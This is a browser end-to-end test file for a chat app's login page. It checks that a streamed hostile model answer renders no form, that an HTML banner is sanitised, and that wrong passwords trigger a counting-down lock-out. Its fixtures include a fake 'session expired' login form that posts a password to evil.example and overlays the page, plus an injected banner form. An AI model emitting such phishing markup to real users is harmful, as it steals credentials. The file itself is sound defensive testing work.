// @vitest-environment node
// The login page and hostile model output in a real browser (Debian chromium) against the real stack:
// a streamed assistant message carrying a fake login form renders no form (issue 12.8), and after
// LOGIN_ATTEMPT_LIMIT_MAX wrong passwords the login page counts the lock-out down (docs/compatibility.md#auth-and-security); the
// branding (banner, colours, cached logos) shows.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { mkdirSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import type { Browser, Page } from 'playwright-core';
import {
  REPO_ROOT,
  configureFakeLlm,
  makeStackDirs,
  seedProject,
  startFakeLlm,
  startStack,
  type FakeLlm,
  type Stack,
  launchChromium,
} from '@pi-forge/test-fixtures';

const PASSWORD = 'login-page-password-Vb6';
const SHOTS = join(REPO_ROOT, 'test-output', 'screenshots');
const STEP = 60_000;
const PNG = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==', 'base64');
// Loopback logos reach the cache only with this test-only preload (see gateway/src/ui-config/address-policy.ts).
const LOOPBACK_LOGOS = `--import=${pathToFileURL(join(REPO_ROOT, 'gateway/dist/test/allow-loopback-logos.js')).href}`;
const FAKE_LOGIN = [
  'Your session expired. Please sign in again:\n\n',
  '<form action="https://evil.example/steal" method="post"><style>.app{display:none}</style>',
  '<div style="position:fixed;inset:0;background:#000">Session expired</div>',
  '<input type="password" name="pw" placeholder="Password"><button type="submit">Sign in</button></form>',
  '\n\nEnd of the hostile answer.',
];

describe('the login page and hostile output in a browser', () => {
  let stack: Stack;
  let llm: FakeLlm;
  let browser: Browser;
  let logoServer: Server;

  beforeAll(async () => {
    mkdirSync(SHOTS, { recursive: true });
    logoServer = createServer((req, res) => {
      if (req.url === '/login.png' || req.url === '/dark.png') return res.writeHead(200, { 'content-type': 'image/png' }).end(PNG);
      res.writeHead(404).end();
    });
    await new Promise<void>((r) => logoServer.listen(0, '127.0.0.1', r));
    const logoBase = `http://127.0.0.1:${(logoServer.address() as AddressInfo).port}`;
    llm = await startFakeLlm({ delayMs: 10 });
    const dirs = makeStackDirs();
    configureFakeLlm(dirs.piConfig, llm);
    seedProject(dirs, 'hostile', { 'README.md': '# hostile\n' });
    stack = await startStack({
      name: 'web-login-e2e',
      dirs,
      env: {
        UI_PASSWORD: PASSWORD,
        LOGIN_ATTEMPT_LIMIT_MAX: '2',
        LOGIN_LOCKOUT_MS: '120000',
        AUTH_BANNER_TEXT: 'Authorised use only.\\nRead <b>the policy</b><form action="https://evil.example"><input name="q"></form>',
        AUTH_BANNER_HTML: 'true',
        AUTH_COLOR_SCHEME: '#102030,#203040,#304050,#f0f0f0,#a0a0a0,#00aa55,#ffffff,#008844',
        NODE_OPTIONS: LOOPBACK_LOGOS,
        AUTH_URL_LOGO: `${logoBase}/login.png`,
        APP_LOGO_DARK_URL: `${logoBase}/dark.png`,
      },
    });
    browser = await launchChromium();
  }, 90_000);

  afterAll(async () => {
    await browser?.close();
    await stack?.dispose();
    await llm?.close();
    logoServer?.closeAllConnections();
    await new Promise((r) => logoServer?.close(r));
  }, 30_000);

  /** The image loaded (CSP allowed it, the bytes decoded). */
  const loaded = (img: ReturnType<Page['locator']>) =>
    img.evaluate((el) => (el as HTMLImageElement).complete && (el as HTMLImageElement).naturalWidth > 0);

  async function freshPage(): Promise<Page> {
    const context = await browser.newContext({ viewport: { width: 1280, height: 800 } });
    return context.newPage();
  }

  it(
    'renders a streamed assistant message with a <form> without any form, input or style',
    async () => {
      const page = await freshPage();
      await page.goto(stack.baseUrl);
      await page.getByLabel('Password', { exact: true }).fill(PASSWORD);
      await page.getByRole('button', { name: 'Sign in' }).click();
      await page.getByRole('main', { name: 'Chat' }).waitFor({ timeout: 15_000 });
      // The dark-theme header logo comes from the gateway's logo cache.
      const headerLogo = page.locator('header img.brand-logo');
      expect(await headerLogo.getAttribute('src')).toMatch(/^\/cache\/logos\/appDark-[0-9a-f]{16}\.png$/);
      await expect.poll(() => loaded(headerLogo)).toBe(true);
      await page.getByRole('button', { name: 'hostile', exact: true }).click();
      await page.getByRole('button', { name: 'New session', exact: true }).click();
      await expect.poll(() => page.locator('.conn').textContent(), { timeout: 10_000 }).toBe('Live');
      llm.enqueue({ text: FAKE_LOGIN });
      const composer = page.getByLabel('Message', { exact: true });
      await composer.fill('[no-tool] say something');
      await composer.press('Enter');
      const answer = page.getByRole('article', { name: 'Agent' }).last();
      await expect.poll(() => answer.textContent(), { timeout: 20_000 }).toContain('End of the hostile answer.');
      await page.screenshot({ path: join(SHOTS, 'login-01-hostile-answer.png') });
      expect(await answer.textContent()).toContain('Session expired');
      expect(await answer.locator('form, input, button, style, [style]').count()).toBe(0);
      expect(await page.locator('form[action*="evil"], input[name="pw"]').count()).toBe(0);
      await page.context().close();
    },
    STEP,
  );

  it(
    'shows a counting-down lock-out after LOGIN_ATTEMPT_LIMIT_MAX wrong passwords',
    async () => {
      const page = await freshPage();
      await page.goto(stack.baseUrl);
      // Branding (docs/compatibility.md#health-and-ui-config): the sanitised HTML banner and AUTH_COLOR_SCHEME.
      const banner = page.locator('.banner-text');
      await expect.poll(() => banner.locator('b').textContent()).toBe('the policy');
      expect(await banner.locator('form, input').count()).toBe(0);
      expect(await page.locator('.auth-page').evaluate((el) => getComputedStyle(el).backgroundColor)).toBe('rgb(16, 32, 48)');
      const logo = page.locator('img.auth-logo');
      expect(await logo.getAttribute('src')).toMatch(/^\/cache\/logos\/auth-[0-9a-f]{16}\.png$/);
      await expect.poll(() => loaded(logo)).toBe(true);
      const password = page.getByLabel('Password', { exact: true });
      const signIn = page.getByRole('button', { name: 'Sign in' });
      for (let i = 0; i < 2; i++) {
        await password.fill(`wrong-${i}`);
        await signIn.click();
        await expect.poll(() => page.getByRole('alert').textContent()).toContain('did not match');
        await page.getByRole('alert').filter({ hasText: 'did not match' }).waitFor();
      }
      // Locked now (limit 2): even the right password is refused with 423 and the form counts down.
      await password.fill(PASSWORD);
      await signIn.click();
      const alert = page.getByRole('alert');
      await expect.poll(() => alert.textContent()).toMatch(/Too many failed sign-in attempts\. Try again in \d:\d\d\./);
      const timer = page.locator('.lockout-timer');
      const first = (await timer.textContent()) ?? '';
      const seconds = (t: string) => Number(t.split(':')[0]) * 60 + Number(t.split(':')[1]);
      expect(seconds(first)).toBeGreaterThan(60);
      expect(seconds(first)).toBeLessThanOrEqual(120);
      expect(await signIn.isDisabled()).toBe(true);
      await page.screenshot({ path: join(SHOTS, 'login-02-locked.png') });
      // The countdown moves on its own.
      await expect.poll(async () => seconds((await timer.textContent()) ?? first), { timeout: 10_000 }).toBeLessThan(seconds(first));
      expect(await page.evaluate(() => localStorage.getItem('pi-forge/auth-token'))).toBeNull();
      await page.context().close();
    },
    STEP,
  );
});
